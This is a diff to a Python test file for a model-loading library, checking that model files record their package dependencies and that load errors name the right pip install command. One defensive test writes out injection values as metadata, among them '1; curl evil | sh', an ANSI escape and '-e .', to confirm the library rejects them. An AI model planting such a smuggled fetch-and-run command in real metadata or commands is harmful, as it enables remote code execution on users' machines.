@@ -1,4 +1,4 @@
-"""Which packages a model came from: its file says so, and its next user is told what to install."""
+"""The packages that a model needs: they are recorded in its file, and errors say what to install."""
 
 from __future__ import annotations
 
@@ -16,6 +16,7 @@ from stylekit import StylekitError, StylekitWarning, make
 from stylekit.inference import model_files
 from stylekit.registry import lookup, provenance
 from stylekit.weights import tensors
+from tests.facts import raises, warns
 
 if TYPE_CHECKING:
     from tests.conftest import Install
@@ -61,38 +62,38 @@ def flower(install: Install, tmp_path: Path) -> Path:
 
 
 def uninstall(folder: Path, package: str) -> None:
-    (found,) = (folder / "site").glob(f"{package}-*.dist-info")
-    shutil.rmtree(found)
+    (metadata,) = (folder / "site").glob(f"{package}-*.dist-info")
+    shutil.rmtree(metadata)
     importlib.invalidate_caches()
 
 
-def test_model_file_names_the_packages_that_its_parts_came_from(flower: Path) -> None:
-    told = tensors.read_tensors(flower)[1]
-    assert told["origin"] == "flowers 1.2"
-    assert json.loads(told["packages"]) == {"flowers": "1.2", "tulips": "2.1"}
+def test_a_model_file_names_the_packages_of_its_parts(flower: Path) -> None:
+    header = tensors.read_tensors(flower)[1]
+    assert header["origin"] == "flowers 1.2"
+    assert json.loads(header["packages"]) == {"flowers": "1.2", "tulips": "2.1"}
     assert stylekit.load(flower).name == "flower"
 
 
 @pytest.mark.parametrize("package", ["flowers", "tulips"])
-def test_model_without_its_package_says_what_to_install(flower: Path, tmp_path: Path, package: str) -> None:
+def test_the_error_for_a_missing_package_says_what_to_install(flower: Path, tmp_path: Path, package: str) -> None:
     uninstall(tmp_path, package)
     wanted = {"flowers": "flowers==1.2", "tulips": "tulips==2.1"}[package]
-    with pytest.raises(StylekitError, match=rf"flower\.safetensors was made with .* Type: pip install {wanted}$"):
+    with raises(StylekitError, flower, f"pip install {wanted}"):
         stylekit.load(flower)
 
 
-def test_model_whose_package_is_left_out_by_the_variable_says_so(flower: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_error_for_an_excluded_package_names_the_variable(flower: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("STYLEKIT_PLUGINS", "flowers")
-    with pytest.raises(StylekitError, match="made with plugins of tulips, which STYLEKIT_PLUGINS leaves out"):
+    with raises(StylekitError, flower, "tulips", "STYLEKIT_PLUGINS"):
         stylekit.load(flower)
 
 
-def test_model_with_a_class_given_by_hand_still_needs_the_packages_of_its_parts(flower: Path, tmp_path: Path) -> None:
+def test_a_model_loaded_with_a_given_class_still_needs_the_packages_of_its_parts(flower: Path, tmp_path: Path) -> None:
     method = lookup.find_part("method", "flower")
     uninstall(tmp_path, "flowers")
     assert stylekit.load(flower, method=method).name == "flower"
     uninstall(tmp_path, "tulips")
-    with pytest.raises(StylekitError, match=r"pip install tulips==2\.1$"):
+    with raises(StylekitError, "pip install tulips==2.1"):
         stylekit.load(flower, method=method)
 
 
@@ -100,16 +101,16 @@ def test_model_with_a_class_given_by_hand_still_needs_the_packages_of_its_parts(
     "packages",
     ['{"x": "1; curl evil | sh"}', '{"\\u001b[2J": "1"}', '{"": "1"}', "[[1, 2]]", '{"x": 1}', '{"-e .": "1"}'],
 )
-def test_nothing_unchecked_from_a_file_is_to_be_typed(flower: Path, packages: str) -> None:
+def test_a_file_cannot_inject_text_into_the_install_command(flower: Path, packages: str) -> None:
     held, header = tensors.read_tensors(flower)
     tensors.write_tensors(flower, held, {**header, "packages": packages})
-    with pytest.raises(StylekitError, match="is damaged") as told:
+    with raises(StylekitError, flower, "damaged") as caught:
         stylekit.load(flower)
-    assert "pip install" not in str(told.value)
-    assert "\x1b" not in str(told.value)
+    assert "pip install" not in str(caught.value)
+    assert "\x1b" not in str(caught.value)
 
 
-def test_part_that_keeps_no_notes_is_built_all_the_same(install: Install) -> None:
+def test_a_part_without_a_dict_is_built_without_a_record(install: Install) -> None:
     source = """
 from stylekit import hookimpl
 
@@ -126,22 +127,22 @@ def stylekit_datasets():
     assert provenance.packages(make("dataset", "few"), torch.nn.Identity()) == {}
 
 
-def test_model_of_another_version_of_its_package_warns(flower: Path, tmp_path: Path, install: Install) -> None:
+def test_another_version_of_a_package_is_a_warning(flower: Path, tmp_path: Path, install: Install) -> None:
     uninstall(tmp_path, "tulips")
     (tmp_path / "site" / "tulips-3.0.dist-info").mkdir()
     (tmp_path / "site" / "tulips-3.0.dist-info" / "METADATA").write_text(
         "Metadata-Version: 2.1\nName: tulips\nVersion: 3.0\n"
     )
     (tmp_path / "site" / "tulips-3.0.dist-info" / "entry_points.txt").write_text("[stylekit]\ntulip = sample_tulips\n")
-    with pytest.warns(
-        StylekitWarning, match=r"made with tulips 2\.1, and 3\.0 is installed.* pip install tulips==2\.1"
-    ):
+    with warns(StylekitWarning, flower, "tulips 2.1", "3.0", "pip install tulips==2.1"):
         assert stylekit.load(flower).name == "flower"
 
 
-def test_model_whose_names_mean_parts_of_others_now_is_refused(flower: Path, tmp_path: Path, install: Install) -> None:
-    """As when stylekit itself comes to have a method of that name."""
+def test_a_model_whose_names_now_refer_to_parts_of_other_packages_is_refused(
+    flower: Path, tmp_path: Path, install: Install
+) -> None:
+    """For example when stylekit adds a method with that name."""
     (tmp_path / "site" / "tulips-2.1.dist-info" / "entry_points.txt").write_text("")
     install("roses", "rose", GENERATOR.replace("NAME", "unused"))
-    with pytest.raises(StylekitError, match="was made with parts of tulips, and here their names mean parts of others"):
+    with raises(StylekitError, flower, "parts", "tulips"):
         stylekit.load(flower)
